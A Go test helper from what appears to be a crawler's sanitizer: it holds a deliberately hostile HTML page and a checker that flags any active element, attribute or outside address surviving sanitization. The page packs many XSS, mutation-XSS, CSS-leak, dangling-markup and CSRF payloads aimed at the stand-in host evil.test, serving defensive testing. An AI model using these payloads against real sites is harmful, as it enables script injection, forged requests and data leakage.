// Package harmlesstest holds a page with everything a page can try, and finds what
// in a shown page a browser could act upon.
package harmlesstest

import (
	"fmt"
	"regexp"
	"slices"
	"strings"

	"golang.org/x/net/html"

	"github.com/waggle-crawler/waggle/teach/harmless"
)

// Hostile is a page with everything a page can try. WAGGLE stands for the
// address of the server itself.
const Hostile = `text/html; charset=utf-8:<!DOCTYPE html><html onclick="x()" manifest="/m"><head>
<title>]]></title><script>top.location='http://evil.test/title'</script>` + "\x1b]0;owned\x07\u202e" + `</title>
<base href="http://evil.test/" target="_top">
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="preload" href="http://evil.test/preload" as="image"><link rel="prefetch" href="http://evil.test/prefetch">
<link rel="dns-prefetch" href="//dns.evil.test"><link rel="preconnect" href="http://evil.test">
<link rel="icon" href="http://evil.test/icon"><link rel="stylesheet" href="http://college.test/evil.css">
<script>top.location = "http://evil.test/top"; parent.postMessage("x", "*")</script>
<script src="http://evil.test/a.js"></script>
<style>@import "http://evil.test/import.css"; @\69mport "http://evil.test/escaped.css";
body { background: url(http://evil.test/bg.png) } p { background: u\72l(http://evil.test/escaped.png) }
a[href^="/page"] { background-image: image-set("http://evil.test/leak.png" 1x) }
@font-face { font-family: f; src: url(http://evil.test/f.woff) } h1 { font-family: f }
.overlay { position: fixed; inset: -9999px; z-index: 2147483647; background: red; opacity: .9 }
</style><body onload="x()" background="http://evil.test/body.png"><h1>Hostile</h1>
</style><script>document.title='ran'</script>
<div class="overlay" style="background:url('http://evil.test/style.png')">cover</div>
<form id=f action="WAGGLE/do/remove" method="post" enctype="text/plain"><input name='{"path":0,"x":"' value='"}'><input type=submit value="Win a prize"></form>
<form action="http://evil.test/form"><button autofocus formaction="javascript:x()">Go</button><input type=password name=p></form>
<img src="http://evil.test/i.png" srcset="http://evil.test/s.png 2x" onerror="x()" alt="An image"><img src="WAGGLE/do/undo">
<a href="javascript:top.location='http://evil.test/js'">js</a> <a href=" java&#10;script:x()">js2</a>
<a href="data:text/html,<script>x()</script>">data</a> <a href="//evil.test/a" target="_top" ping="http://evil.test/ping" onclick="x()" download>Away</a>
<a href="WAGGLE/do/undo">own</a> <a href="vbscript:x">vb</a> <a id=last href="http://college.test/dept/">Departments</a>
<iframe src="http://evil.test/frame" srcdoc="<script>x()</script>"></iframe><object data="http://evil.test/o"><param name=x></object>
<embed src="http://evil.test/e"><applet code=x archive="http://evil.test/x.jar"></applet><video src="http://evil.test/v" poster="http://evil.test/p" autoplay></video>
<audio src="http://evil.test/au" autoplay></audio><portal src="http://evil.test/portal"></portal><frame src="http://evil.test/fr">
<svg onload="x()"><script>x()</script><a xlink:href="javascript:x()"><text>svg</text></a><image href="http://evil.test/svg.png"/><use href="http://evil.test/u#x"/><animate attributeName=href values="javascript:x()"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;"></math>
<noscript><p title="</noscript><img src=x onerror=x()>"></noscript><template><script>x()</script><img src=http://evil.test/t></template>
<textarea></textarea><img src=y onerror=x()></textarea><xmp><img src=x onerror=x()></xmp><!--><img src=z onerror=x()>-->
<p title='"><script>x()</script>' id="controls" name="getElementById">clobber</p><select><option onfocus=x()>o</select><details open ontoggle=x()>d</details>
<marquee onstart=x()>m</marquee><isindex action="javascript:x()"><input type=image src="http://evil.test/in"><table background="http://evil.test/tb"><td background="javascript:x()">t</table>
<script type="importmap">{"imports":{"x":"http://evil.test/map.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["http://evil.test/spec"]}]}</script>
<link rel="modulepreload" href="http://evil.test/mod.js"><link rel="prerender" href="http://evil.test/prerender"><link rel="manifest" href="http://evil.test/man">
<link rel="StyleSheet alternate" href="http://evil.test/alt.css"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Link" content="<http://evil.test/lnk>;rel=preload">
<picture><source srcset="http://evil.test/pic 1x"><img src="http://evil.test/picimg" loading=eager fetchpriority=high></picture><image src="http://evil.test/image">
<style>@layer a { @import url(//evil.test/layer.css); } ul { list-style: url("http://evil.test/li") } p { cursor: url(http://evil.test/cur), auto; --x: url(http://evil.test/var); content: var(--x) }
q::before { content: url(data:image/svg+xml,%3Csvg/%3E) url(http://evil.test/gen) } div { -webkit-mask: url(http://evil.test/mask#m); filter: url(http://evil.test/filter#f); shape-outside: url(http://evil.test/so); src: src("http://evil.test/src") }
@namespace url(http://evil.test/ns); @font-face { font-family: g; src: local(x), u\72 l("http://evil.test/g.woff2") } body { font-family: g } @property --p { syntax: "<url>"; inherits: false; initial-value: url(http://evil.test/prop) }</style>
<p style="background:\75 rl(http://evil.test/esc2); background-image: -webkit-cross-fade(url(http://evil.test/cf), url(http://evil.test/cf2), 50%); position:fixed; inset:0; z-index:9">overlay</p>
<svg><style>@import "http://evil.test/svgcss";</style><foreignObject><iframe src="http://evil.test/fo"></iframe></foreignObject><set attributeName=href to="javascript:x()"/><feImage href="http://evil.test/fe"/></svg>
<fencedframe src="http://evil.test/ff"></fencedframe><object data="data:text/html,<script>x()</script>"></object><embed src="javascript:x()"><iframe srcdoc="<meta http-equiv=refresh content=0;url=http://evil.test/srcdoc>"></iframe>
<svg></p><style><a id="</style><img src=http://evil.test/mx1 onerror=x()>"></svg><math></br><mtext><script>x()</script></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=http://evil.test/mx2 onerror=x()></style></form>
<noscript><style></noscript><img src=http://evil.test/mx3 onerror=x()></style><select><template><style></select><img src=http://evil.test/mx4></style></template></select>
<a href="&#1;javascript:x()">c0</a><a href="https:javascript:x()">odd</a><a href="blob:http://evil.test/x">blob</a><a href="filesystem:http://evil.test/">fs</a><a href="view-source:x">vs</a>
<a href="#\" onmouseover=x() y="">frag</a><div popover id=pop onbeforetoggle=x()>pop</div><button popovertarget=pop command=show-popover commandfor=pop>b</button><dialog open>dia</dialog>
<img src='http://evil.test/dangling?<p>all of this would be the address of an image</p>
<b>bold</b> '><keygen autofocus><bgsound src="http://evil.test/snd"><command onclick=x()><nextid><blink>b</blink><layer src="http://evil.test/layer"></layer>
<plaintext><script>x()</script>`

// What must not be shown, whatever the lists say.
const (
	active = " script iframe frame frameset object embed applet base form svg math template noscript audio video portal "
	fields = " button input select textarea "
	acting = " action background data formaction form http-equiv content manifest ping poster srcdoc srcset target xlink:href codebase archive usemap autofocus "
)

// Check tells what in a document a browser could act upon: elements and
// attributes beyond the lists, and addresses that are not the server's numbers
// behind the key cap.
func Check(doc, cap string) error {
	ours := regexp.MustCompile(`^(|#.*|/(page|load)/` + regexp.QuoteMeta(cap) + `/\d+/\d+)$`)
	elements, attributes := harmless.Allowed()
	shownAs := map[string]bool{"html": true, "head": true, "body": true, "meta": true, "title": true, "style": true, "link": true, "img": true, "input": true, "textarea": true, harmless.Unknown: true}
	for _, as := range elements {
		shownAs[as] = true
	}
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		return err
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.CommentNode:
			if n.Data != "" {
				return fmt.Errorf("a comment: %q", n.Data)
			}
			continue
		case html.ElementNode:
		default:
			continue
		}
		if !shownAs[n.Data] || n.Namespace != "" || strings.Contains(active, " "+n.Data+" ") {
			return fmt.Errorf("element %s %s", n.Namespace, n.Data)
		}
		if strings.Contains(fields, " "+n.Data+" ") && !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "inert" }) {
			return fmt.Errorf("a %s that can be used", n.Data)
		}
		for _, a := range n.Attr {
			switch key := a.Key; {
			case strings.HasPrefix(key, "on"), strings.Contains(acting, " "+key+" "):
				return fmt.Errorf("attribute %s of %s", key, n.Data)
			case key == "href" && (n.Data == "a" || n.Data == "link"), key == "src" && n.Data == "img":
				if !ours.MatchString(a.Val) {
					return fmt.Errorf("%s leads to %q", n.Data, a.Val)
				}
			case n.Data == "meta" && key == "charset", n.Data == "link" && (key == "rel" && a.Val == "stylesheet" || key == "media"):
			case key == "style":
			case n.Data == "button" && key == "type":
				if a.Val != "button" {
					return fmt.Errorf("a button of type %q", a.Val)
				}
			case strings.Contains(fields+"option ", " "+n.Data+" ") && strings.Contains(" inert type value placeholder checked selected disabled multiple maxlength min max step cols rows wrap ", " "+key+" "):
			case attributes[key]:
			default:
				return fmt.Errorf("attribute %s of %s", key, n.Data)
			}
		}
	}
	return nil
}
